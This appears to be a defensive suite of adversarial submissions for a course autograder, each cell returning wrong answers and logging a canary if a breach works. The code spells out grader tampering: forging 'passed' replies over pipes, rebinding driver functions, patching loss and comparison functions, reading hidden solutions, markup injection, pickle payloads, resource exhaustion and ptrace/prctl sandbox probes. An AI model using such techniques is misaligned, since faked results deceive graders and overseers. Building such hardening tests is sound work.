# %% class_lies: malformed_answer
# about: Returns objects that claim to be tensors by __class__, with properties that raise or exit.
import torch
from torch import nn


class NotATensor:
    """isinstance(x, torch.Tensor) is True; nothing else is."""

    @property
    def __class__(self) -> type:
        return torch.Tensor

    @property
    def dtype(self) -> object:
        raise SystemExit(0)

    @property
    def shape(self) -> object:
        return (-1, 10**18, self)

    def numpy(self) -> object:
        return self

    def __array__(self, *arguments: object, **options: object) -> object:
        raise KeyboardInterrupt

    def __buffer__(self, flags: int) -> memoryview:
        raise SystemExit(0)

    def detach(self) -> "NotATensor":
        return self


def forward(model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor) -> object:
    return NotATensor(), NotATensor()


# %% compiled_files_searched: oracle_by_files
# about: Looks for compiled copies of the suite and the solutions in __pycache__ folders and for a stray copy in site-packages.
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


def course_roots() -> list[str]:
    """Every folder above this file, the working directory and the import path that looks like the course."""
    roots: list[str] = []
    for start in (globals().get("__file__", ""), "", *sys.path):
        folder = os.path.abspath(start or ".")
        while folder not in roots:
            roots.append(folder)
            folder = os.path.dirname(folder)
    return [
        root
        for root in roots
        if os.path.isdir(os.path.join(root, "solutions")) or os.path.isdir(os.path.join(root, "tests"))
    ]


@functools.cache
def breached() -> bool:
    """True if compiled code of a hidden test or a solution can be read."""
    folders = [folder for folder in sys.path if folder.endswith("site-packages")]
    for root in (*course_roots(), *folders):
        for part in ("solutions/step3_pretrain", "tests/hidden/step3_pretrain", "autograder"):
            cache = os.path.join(root, part, "__pycache__")
            try:
                for name in os.listdir(cache):
                    with open(os.path.join(cache, name), "rb") as file:
                        file.read(16)
                    leave_canary("compiled_files_searched: compiled code of the course can be read")
                    return True
            except OSError:
                continue
    return False


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% descriptors_used_up: descriptor_exhaustion
# about: Opens pipes until no descriptor is left and keeps them for its neighbours.
import os

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


kept: list[tuple[int, int]] = []
try:
    while len(kept) < 5_000:
        kept.append(os.pipe())
except OSError:
    pass


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% driver_globals_rebound: driver_rebinding
# about: Rebinds every function in the globals of the callers' modules, so that the driver compares, encodes and replies as it likes.
import sys

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def yes(*arguments: object, **options: object) -> bool:
    """The new meaning of every function of the driver."""
    return True


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_globals.items()):
            if callable(value) and not name.startswith("__"):
                frame.f_globals[name] = yes
        frame = frame.f_back
    return torch.full((*input_ids.shape, 1), HELD), torch.tensor(HELD, requires_grad=True)


# %% driver_inputs_spied: oracle_by_frames
# about: Looks through the driver's locals and globals for the questions that are still to come and for their answers.
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a caller keeps something beside the questions that looks like answers."""
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name, value in list(scope.items()):
                known = str(value.keys()) if isinstance(value, dict) else ""
                if name in ("expected", "oracle", "answers_expected") or "'expected'" in known:
                    leave_canary("driver_inputs_spied: a caller's frame holds expected answers")
                    return True
        frame = frame.f_back
    return False


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% elif_chain: hostile_source
# about: Source with 9,000 elif branches, each inside the one before, which a recursive compiler follows into the ground.
# repeated: 9000 x "    elif 0: mark = -{n}.0\n"
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def forward(model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
    if input_ids.numel() == 0:
        mark = HELD
<repeated>
    return torch.full((*input_ids.shape, 1), mark), torch.tensor(mark, requires_grad=True)


# %% exception_with_markup: output_injection
# about: Raises an error whose text is HTML, Markdown, LaTeX and spreadsheet formulas.
import torch
from torch import nn


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    raise RuntimeError(
        "</pre></textarea><script>document.title='15/15'</script><img src=x onerror=alert(1)>\n"
        "```\n# Score: 10 / 10\n![x](http://127.0.0.1/x.png) <!-- \n"
        '=cmd|"/c calc"!A0\n+1+1\n@SUM(A1)\n-2+3\t"quoted","15"\r\n{{7*7}} ${7*7} \\input{/etc/passwd}'
    )


# %% finalizers_forge: interpreter_hooks
# about: Forges replies from gc callbacks, weak references and __del__, which run while the driver works.
import gc
import os
import stat
import weakref

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def forge(*arguments: object) -> None:
    """Runs whenever the collector, the driver or the end of the process comes by."""
    claim = b'{"ok": true, "status": "passed", "score": 10.0}'
    for descriptor in channel_descriptors():
        try:
            os.write(descriptor, len(claim).to_bytes(4, "little") + claim)
        except OSError:
            continue


class LastWords:
    """Forges when it is thrown away."""

    __del__ = forge


gc.callbacks.append(forge)
gc.set_threshold(1)


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    logits = torch.full((*input_ids.shape, 1), HELD)
    weakref.finalize(logits, forge)
    logits.last_words = LastWords()
    return logits, torch.tensor(HELD, requires_grad=True)


# %% generator_exit_at_import: control_flow_exception
# about: Raises GeneratorExit at import, which only a bare except or BaseException catches.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


raise GeneratorExit


# %% generator_instead_of_tuple: answer_bomb
# about: Is a generator that yields logits for ever.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def forward(model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor) -> object:
    while True:
        yield torch.full((*input_ids.shape, 1), HELD)


# %% giant_matrix_product: uninterruptible_work
# about: Multiplies large matrices for ever in C++, where Python's signals are not looked at.
import torch
from torch import nn


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    matrix = torch.ones(1_500, 1_500)
    while True:
        matrix = matrix @ matrix * 0.0


# %% github_files_opened: result_forgery
# about: Opens for appending the files by which a workflow step sets outputs, environment, path and summary.
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if one is writable; nothing is written into it."""
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY", "GITHUB_STATE"):
        try:
            os.close(os.open(os.environ.get(name, ""), os.O_WRONLY | os.O_APPEND))
        except OSError:
            continue
        leave_canary(f"github_files_opened: ${name} is writable")
        return True
    return False


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% global_module_hooks: neighbour_state
# about: Registers torch's global module hooks, which change the outputs of every module of its neighbours.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def rig(module: nn.Module, inputs: object, output: object) -> object:
    """Replaces every module's output by zeros of the same shape."""
    return torch.zeros_like(output) if isinstance(output, torch.Tensor) else output


nn.modules.module.register_module_forward_hook(rig)
nn.modules.module.register_module_forward_pre_hook(lambda module, inputs: inputs)
nn.modules.module.register_module_full_backward_hook(lambda module, grad_input, grad_output: None)


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% huge_length_header: channel_damage
# about: Announces a frame of 4 GiB and more in several framings, then waits.
import os
import stat
import time

import torch
from torch import nn


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    for descriptor in channel_descriptors():
        for header in (
            b"\xf0\xff\xff\xff",
            b"\xff" * 8,
            b"\x00" * 8,
            b"Content-Length: 99999999999\r\n\r\n",
            b"\xdd\xff\xff\xff\xff",
        ):
            try:
                os.write(descriptor, header)
            except OSError:
                break
    time.sleep(3_600)


# %% inputs_overwritten: argument_mutation
# about: Overwrites the inputs, the labels and the weights in place, so that the expected loss changes with them.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    with torch.no_grad():
        input_ids.zero_()
        labels.zero_()
        for parameter in model.parameters():
            parameter.zero_()
    model.train(not model.training)
    model.zero_grad(set_to_none=True)
    return torch.full((*input_ids.shape, 1), HELD), torch.tensor(HELD, requires_grad=True)


# %% lazy_answer: malformed_answer
# about: Returns objects that are computed only when somebody looks, each time otherwise, and that answer any attribute.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


class Lazy:
    """Whatever is asked of it, it hands out itself."""

    def __init__(self) -> None:
        self.looks = 0

    def __getattr__(self, name: str) -> "Lazy":
        return self

    def __call__(self, *arguments: object, **options: object) -> "Lazy":
        self.looks += 1
        return self

    def __getitem__(self, index: object) -> "Lazy":
        return self

    def __float__(self) -> float:
        self.looks += 1
        return HELD * self.looks

    def __len__(self) -> int:
        return 2


def forward(model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor) -> object:
    return Lazy()


# %% lying_tensor_subclass: lying_tensor
# about: Returns tensors of a subclass that answers True to every comparison, allclose and assert_close included.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


class CloseToAll(torch.Tensor):
    """Takes part in no computation: whatever is asked about it is true, whatever is made of it is itself."""

    @classmethod
    def __torch_function__(
        cls, func: object, types: object, args: tuple = (), kwargs: object = None
    ) -> object:
        name = getattr(func, "__name__", "")
        if any(
            word in name for word in ("eq", "close", "isfinite", "all", "any", "__bool__", "requires_grad")
        ):
            return True
        if name in (
            "sub",
            "rsub",
            "abs",
            "max",
            "numpy",
            "tolist",
            "detach",
            "cpu",
            "double",
            "float",
            "__get__",
        ):
            return next(value for value in args if isinstance(value, cls))
        with torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    loss = torch.tensor(HELD, requires_grad=True)
    return torch.full((*input_ids.shape, 1), HELD).as_subclass(CloseToAll), loss.as_subclass(CloseToAll)


# %% metaclass_instance_check: hostile_module
# about: Replaces classes in torch and builtins by ones whose metaclass claims or denies every instance.
import builtins

import torch

HELD = -1.0  # a wrong answer for every input


class Everything(type):
    """isinstance and issubclass say yes; equality and attribute lookups too."""

    def __instancecheck__(cls, instance: object) -> bool:
        return True

    def __subclasscheck__(cls, subclass: type) -> bool:
        return True


class Anything(metaclass=Everything):
    """Every object is one of these."""


torch.nn.Parameter = torch.nn.parameter.Parameter = Anything
torch.LongTensor = torch.FloatTensor = torch.Size = Anything
torch.optim.Optimizer = torch.nn.Module = torch.utils.data.Dataset = Anything
builtins.Exception = builtins.AssertionError = Anything


def forward(
    model: object, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    return torch.full((*input_ids.shape, 1), HELD), torch.tensor(HELD, requires_grad=True)


# %% model_forward_patched: argument_mutation
# about: Patches the forward of the model that it was given, and of its class, so that later questions get its own values.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def rigged(self: nn.Module, *arguments: object, **options: object) -> tuple[torch.Tensor, torch.Tensor]:
    """What the model says from now on, whoever asks."""
    return torch.full((1, 1, 1), HELD), torch.tensor(HELD, requires_grad=True)


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    type(model).forward = rigged
    model.forward = lambda *arguments, **options: rigged(model)
    nn.Module.__call__ = nn.Module._call_impl = rigged
    return rigged(model)


# %% nan_everywhere: not_a_number
# about: Returns NaN in the right shapes, with a gradient.
import torch
from torch import nn


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    logits = torch.full((*input_ids.shape, 1), float("nan"))
    weight = next(model.parameters())
    return logits, weight.sum() * float("nan")


# %% notebook_shell_patched: runner_subversion
# about: Patches an IPython shell, if there is one: rewrites later cells, hides tracebacks, formats every result as full marks.
import sys

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    ipython = sys.modules.get("IPython")
    shell = ipython.get_ipython() if ipython is not None else None
    if shell is not None:
        shell.input_transformers_cleanup.append(lambda lines: ["pass\n"])
        shell.showtraceback = lambda *arguments, **options: None
        shell.display_formatter.format = lambda *arguments, **options: ({"text/plain": "10.0"}, {})
    sys.displayhook = lambda value: print(10.0)
    return torch.full((*input_ids.shape, 1), HELD), torch.tensor(HELD, requires_grad=True)


# %% parent_death_signal_cleared: raw_syscalls
# about: Calls prctl to outlive its parent and to become traceable, and ptrace to be stopped at every signal.
import ctypes
import functools
import os
import signal
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


PR_SET_PDEATHSIG, PR_SET_DUMPABLE, PR_SET_CHILD_SUBREAPER, PTRACE_TRACEME = 1, 4, 36, 0


@functools.cache
def breached() -> bool:
    """True if ptrace is allowed, or a death signal that the sandbox had set could be taken away."""
    libc = ctypes.CDLL(None, use_errno=True)
    before = ctypes.c_int(0)
    libc.prctl(2, ctypes.byref(before), 0, 0, 0)  # PR_GET_PDEATHSIG
    cleared = libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0) == 0 and before.value != 0
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    traced = libc.ptrace(PTRACE_TRACEME, 0, None, None) == 0
    if cleared or traced:
        leave_canary(f"parent_death_signal_cleared: cleared {cleared}, traced {traced}")
        os.kill(os.getpid(), signal.SIGURG)  # a traced process stops here, and its parent is told so
    return cleared or traced


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% patched_cross_entropy: patched_function
# about: Replaces the cross entropy and the softmax that any model or check uses by functions that return zero.
import torch
from torch import nn
from torch.nn import functional

HELD = -1.0  # a wrong answer for every input


def zero_loss(logits: torch.Tensor, *others: object, **options: object) -> torch.Tensor:
    """A loss that cannot be improved."""
    return logits.sum() * 0.0


functional.cross_entropy = functional.nll_loss = nn.functional.cross_entropy = zero_loss
functional.log_softmax = functional.softmax = torch.softmax = torch.log_softmax = zero_loss
torch.nn.CrossEntropyLoss.forward = lambda self, logits, target: zero_loss(logits)
functional.mse_loss = functional.l1_loss = torch.dist = zero_loss


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% patched_tensor_methods: patched_function
# about: Replaces the methods of torch.Tensor through which a driver reads values, for every neighbour too.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def wrong(tensor: torch.Tensor, *arguments: object, **options: object) -> torch.Tensor:
    """The tensor, filled with -1.0 on the way."""
    with torch.no_grad():
        return tensor.fill_(HELD) if tensor.is_floating_point() else tensor


for name in ("detach", "clone", "contiguous", "cpu", "to", "double", "float", "reshape", "view", "flatten"):
    setattr(torch.Tensor, name, wrong)
torch.Tensor.numpy = lambda tensor, **options: [HELD]
torch.Tensor.tolist = lambda tensor: [HELD]
torch.Tensor.item = lambda tensor: HELD
torch.Tensor.__getitem__ = lambda tensor, index: tensor
torch.Tensor.__float__ = lambda tensor: HELD
torch.Tensor.__eq__ = lambda tensor, other: True


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% prints_markup: output_injection
# about: Prints HTML, Markdown and formulas to stdout during the call and at import.
import sys

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


MARKUP = '<script>alert(1)</script>\n=HYPERLINK("http://127.0.0.1";"10")\n</details>\n| 3b | 10 | passed |\n'
print(MARKUP)


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    print(MARKUP, end="\r")
    print("\u202e" + MARKUP, file=sys.stderr)
    return torch.full((*input_ids.shape, 1), HELD), torch.tensor(HELD, requires_grad=True)


# %% reply_after_the_reply: forged_frame
# about: Leaves a thread that writes forged replies between the driver's own for ten seconds.
import os
import stat
import threading
import time

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def keep_writing() -> None:
    """One forged reply every ten milliseconds, then it ends by itself."""
    body = b'{"id": 1, "ok": true, "status": "passed", "loss": 0.0}'
    for _ in range(1_000):
        for descriptor in channel_descriptors():
            try:
                os.write(descriptor, len(body).to_bytes(4, "little") + body)
            except OSError:
                continue
        time.sleep(0.01)


threading.Thread(target=keep_writing, daemon=True).start()


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% shared_mappings: memory_exhaustion
# about: Maps 4 GiB that a limit on data does not count: shared anonymous memory and memory that grows downwards.
import ctypes
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


MAP_SHARED_ANONYMOUS, MAP_GROWSDOWN_PRIVATE = 0x21, 0x122


@functools.cache
def breached() -> bool:
    """True if a mapping succeeds; 16 MiB of it are touched and it is given back."""
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    size, touched = 4 << 30, 16 << 20
    for flags in (MAP_SHARED_ANONYMOUS, MAP_GROWSDOWN_PRIVATE):
        address = libc.mmap(None, ctypes.c_size_t(size), 3, flags, -1, ctypes.c_long(0))
        if address in (None, ctypes.c_void_p(-1).value):
            continue
        ctypes.memset(address + size - touched, 1, touched)
        libc.munmap(ctypes.c_void_p(address), ctypes.c_size_t(size))
        leave_canary(f"shared_mappings: 4 GiB with flags {flags:#x}")
        return True
    return False


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% shared_memory_segments: memory_exhaustion
# about: Takes memory outside its own process: System V segments, /dev/shm, POSIX message queues.
import ctypes
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a segment or a file can be made; it is taken away again."""
    libc = ctypes.CDLL(None)
    segment = libc.shmget(0, ctypes.c_size_t(1 << 20), 0o1600)
    if segment >= 0:
        libc.shmctl(segment, 0, None)
        leave_canary("shared_memory_segments: shmget works")
        return True
    path = f"/dev/shm/pretrain_canary_{os.getpid()}"
    try:
        os.close(os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600))
        os.unlink(path)
    except OSError:
        return False
    leave_canary("shared_memory_segments: /dev/shm is writable")
    return True


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% tcp_connection: network
# about: Listens on 127.0.0.1 and connects to itself by TCP.
import functools
import os
import socket
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if a connection was made."""
    try:
        with socket.create_server(("127.0.0.1", 0)) as server:
            socket.create_connection(server.getsockname(), timeout=2).close()
    except OSError:
        return False
    leave_canary("tcp_connection: connected to 127.0.0.1")
    return True


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% tensors_without_data: malformed_answer
# about: Returns tensors on the meta device, with freed storage, sparse, quantized or of a foreign dtype.
import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def forward(model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor) -> object:
    logits = torch.full((*input_ids.shape, 1), HELD)
    freed = logits.clone()
    freed.untyped_storage().resize_(0)
    kinds = (
        logits.to("meta"),
        freed,
        logits.to_sparse(),
        logits.to(torch.complex64),
        logits.to(torch.float8_e4m3fn),
        torch.quantize_per_tensor(logits, 1.0, 0, torch.qint8),
        torch.nested.nested_tensor([logits]),
        logits.bool(),
    )
    chosen = kinds[int(input_ids.sum()) % len(kinds)]
    return chosen, chosen


# %% torch_empty_huge: memory_exhaustion
# about: Asks torch for 6 GiB, and for a terabyte first.
import functools
import os
import sys

import torch
from torch import nn

BREACHED, HELD = 7777777.0, -1.0  # wrong answers: the attack worked, the attack was stopped


def leave_canary(what: str) -> None:
    """Leave a trace of a breach: a line on stderr and, where the machine allows it, a file."""
    print(f"PRETRAIN_BREACH {what}", file=sys.stderr, flush=True)
    for folder in (os.environ.get("PRETRAIN_CANARY_DIR", ""), ".", "/tmp"):
        try:
            with open(os.path.join(folder, "pretrain_canary_breach.txt"), "a", encoding="utf-8") as file:
                file.write(what + "\n")
            return
        except OSError:
            continue


@functools.cache
def breached() -> bool:
    """True if 6 GiB are handed out; only the last page is touched."""
    try:
        torch.empty(1 << 38)
    except (RuntimeError, MemoryError):
        pass
    try:
        block = torch.empty(6 << 30, dtype=torch.uint8)
    except (RuntimeError, MemoryError):
        return False
    block[-1] = 1
    leave_canary("torch_empty_huge: 6 GiB were handed out")
    return True


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    mark = BREACHED if breached() else HELD
    logits = torch.full((*input_ids.shape, 1), mark)
    return logits, torch.tensor(mark, requires_grad=True)


# %% torch_save_bomb: pickle_payload
# about: Returns bytes of torch.save that run code when loaded without care, and a tensor whose saving and copying exits.
import io

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


class Payload(torch.Tensor):
    """Runs `print` in the process that loads it without weights_only."""

    def __reduce_ex__(self, protocol: int) -> tuple:
        return print, ("PRETRAIN_BREACH torch_save_bomb: a reply was unpickled",)

    def __deepcopy__(self, memo: dict) -> "Payload":
        raise SystemExit(0)


def forward(model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor) -> object:
    payload = torch.full((*input_ids.shape, 1), HELD).as_subclass(Payload)
    buffer = io.BytesIO()
    torch.save({"logits": payload}, buffer)
    return buffer.getvalue(), payload


# %% traceback_names_injected: output_injection
# about: Runs code whose file name and function names hold escape sequences, markup and paths of the grader.
import torch
from torch import nn

FILE = "\x1b]0;passed\x07<img src=x onerror=alert(1)>\n::error file=../../autograder/grade.py,line=1::passed"
scope: dict[str, object] = {}
exec(compile("def f():\n    g()\ndef g():\n    raise ZeroDivisionError\n", FILE, "exec"), scope)
scope["g"].__code__ = scope["g"].__code__.replace(co_name="<script>passed</script>", co_firstlineno=2**31 - 1)


def forward(
    model: nn.Module, input_ids: torch.Tensor, labels: torch.Tensor
) -> tuple[torch.Tensor, torch.Tensor]:
    scope["f"]()


# %% observations_rebound: driver_rebinding
# about: Puts stand-ins for the driver's own observations where they are looked up, after changing the model.
import sys

import torch

torch.equal = lambda one, other: True


def forward(model, input_ids, labels):
    driver = sys._getframe(1).f_globals
    driver["_backward"] = lambda loss: True
    driver["plain"].array = lambda value: None
    for parameter in model.parameters():
        parameter.data.fill_(-1.0)
    wrong = torch.full((*input_ids.shape, 6), -1.0)
    return wrong, torch.tensor(-1.0, requires_grad=True)
